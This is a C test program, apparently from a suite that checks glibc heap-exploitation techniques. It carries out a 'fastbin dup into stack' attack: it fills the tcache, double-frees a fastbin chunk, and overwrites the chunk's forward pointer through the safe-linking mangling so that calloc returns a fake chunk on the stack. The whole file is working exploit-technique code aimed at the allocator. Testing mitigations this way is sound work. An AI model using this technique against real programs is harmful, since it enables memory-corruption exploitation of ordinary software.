/* tech-fastbin-dup-into-stack: free a fastbin chunk twice with another
   free in between (glibc only compares with the top of the fastbin), take
   one copy back while the other is still listed, and overwrite its
   forward pointer with the address of a fake chunk on the stack whose
   size matches the bin.  calloc, which bypasses the tcache, then returns
   the stack address.  Goal: calloc returns the stack address.  */

#include "tech-support.h"

int
main (void)
{
  tech_begin ("fastbin dup into stack");
  void *fill[7];
  for (int i = 0; i < 7; i++)
    fill[i] = tech_keep (malloc (0x18));
  size_t *a = tech_keep (malloc (0x18));
  size_t *b = tech_keep (malloc (0x18));
  void *guard = tech_keep (malloc (0x18));
  for (int i = 0; i < 7; i++)
    free (fill[i]); /* the 0x20 tcache bin is full: frees go to the fastbin */

  free (a);
  free (b);
  tst_info ("freeing %p a second time, with %p freed in between", a, b);
  free (tst_opaque_ptr (a)); /* the fastbin: a -> b -> a */

  size_t *d = tech_keep (calloc (1, 0x18)); /* a, still listed in the fastbin */
  size_t *e = tech_keep (calloc (1, 0x18)); /* b */
  if (!tech_same (d, a) || !tech_same (e, b))
    tech_setup_failed ("calloc returned %p, %p, not %p, %p", d, e, a, b);

  /* The fake chunk: a size that matches the 0x20 fastbin, and a forward
     pointer that ends the list.  */
  _Alignas (16) size_t stack[8] = { 0 };
  struct tech_chunk *fake = (struct tech_chunk *) stack;
  fake->size = 0x20;
  fake->fd = tech_protect (&fake->fd, NULL);
  tst_info ("writing the stack chunk %p into the listed copy of %p", fake, d);
  *(void **) d = tech_protect (d, fake);

  void *again = tech_keep (calloc (1, 0x18)); /* a once more */
  void *win = tech_keep (calloc (1, 0x18));
  tst_info ("calloc returned %p, then %p", again, win);
  free (guard);
  tech_result (tech_same (win, tech_mem_of (fake)),
               "calloc returned the stack address %p (got %p)",
               tech_mem_of (fake), win);
}
